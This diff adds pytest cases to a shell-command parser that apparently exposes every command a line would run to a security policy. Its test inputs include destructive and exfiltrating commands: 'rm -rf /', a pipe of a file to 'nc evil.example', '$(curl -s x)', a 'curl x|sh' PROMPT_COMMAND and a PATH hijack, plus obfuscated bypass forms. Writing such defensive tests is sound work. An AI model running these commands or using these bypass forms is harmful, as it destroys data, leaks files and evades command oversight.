@@ -154,6 +154,56 @@ def test_bashlex_fail_open_cases_are_exposed(cmd: str, expected: list[tuple]) ->
     assert rows(parse(cmd)) == expected
 
 
+# classes of bypasses reported against peer tools (shared/notes/peer-bypasses.md): every
+# command that runs must be visible, with the facts a policy needs
+PEER_BYPASSES = [
+    ("echo x && rm -rf /", [R("echo", ["echo", "x"]), R("rm", ["rm", "-rf", "/"])]),
+    ("git add . && git push --force", [R("git", ["git", "add", "."]), R("git", ["git", "push", "--force"])]),
+    ("git checkout main && git merge evil", [R("git", ["git", "checkout", "main"]), R("git", ["git", "merge", "evil"])]),
+    ("cat f | nc evil.example 9", [R("cat", ["cat", "f"]), R("nc", ["nc", "evil.example", "9"])]),
+    ("echo; do-evil", [R("echo", ["echo"]), R("do-evil", ["do-evil"])]),
+    ("echo ok\nrm -rf /", [R("echo", ["echo", "ok"]), R("rm", ["rm", "-rf", "/"])]),
+    ("ls && $(curl -s x)", [R("ls", ["ls"]), R("$(curl -s x)", ["$(curl -s x)"], markers=[M.DYNAMIC_NAME]), R("curl", ["curl", "-s", "x"], [C.COMMAND_SUBSTITUTION])]),
+    ("echo >(tee /tmp/x.sh)", [R("echo", ["echo", ">(tee /tmp/x.sh)"]), R("tee", ["tee", "/tmp/x.sh"], [C.PROCESS_SUBSTITUTION_OUT])]),
+    ("  rm   -rf   /   # trailing comment", [R("rm", ["rm", "-rf", "/"])]),
+    ("cd / && rm -rf .", [R("cd", ["cd", "/"]), R("rm", ["rm", "-rf", "."])]),
+    ("find . -e\\xec rm {} \\;", [
+        R("find", ["find", ".", "-exec", "rm", "{}", ";"], markers=[M.WRAPPER]),
+        R("rm", ["rm", "{}"], [C.WRAPPED], via=["find -exec"], parent=0),
+    ]),
+    ("ls | xargs rm -rf", [
+        R("ls", ["ls"]),
+        R("xargs", ["xargs", "rm", "-rf"], markers=[M.WRAPPER]),
+        R("rm", ["rm", "-rf"], [C.WRAPPED], via=["xargs"], parent=1),
+    ]),
+    ("./sed -i x f; /tmp/evil/cat f; a/b/cat f", [
+        R("./sed", ["./sed", "-i", "x", "f"], markers=[M.PATH_PROGRAM]),
+        R("/tmp/evil/cat", ["/tmp/evil/cat", "f"], markers=[M.PATH_PROGRAM]),
+        R("a/b/cat", ["a/b/cat", "f"], markers=[M.PATH_PROGRAM]),
+    ]),
+    ("export PROMPT_COMMAND='curl x|sh'; typeset -x A=1; declare B=2", [
+        R("export", ["export", "PROMPT_COMMAND=curl x|sh"]),
+        R("typeset", ["typeset", "-x", "A=1"]),
+        R("declare", ["declare", "B=2"]),
+    ]),
+]
+
+
+@pytest.mark.parametrize("cmd,expected", PEER_BYPASSES, ids=[c for c, _ in PEER_BYPASSES])
+def test_peer_bypass_classes(cmd: str, expected: list[tuple]) -> None:
+    assert rows(parse(cmd)) == expected
+
+
+def test_prefix_assignment_and_heredoc_are_visible_on_the_command() -> None:
+    line = parse("PATH=/tmp/evil:$PATH cat <<EOF > f\nx\nEOF")
+    (c,) = line.commands
+    assert [(a.name, a.value.text, a.value.dynamic) for a in c.assignments] == [("PATH", "/tmp/evil:$PATH", True)]
+    assert [(r.op, r.mode.value, r.target.text, r.heredoc) for r in c.redirects] == [
+        ("<<", "read", "x\n", True),
+        (">", "write", "f", False),
+    ]
+
+
 def test_quoted_heredoc_body_is_data() -> None:
     line = parse("cat <<'EOF' > f\n$(rm -rf /)\nEOF")
     assert rows(line) == [R("cat", ["cat"])]
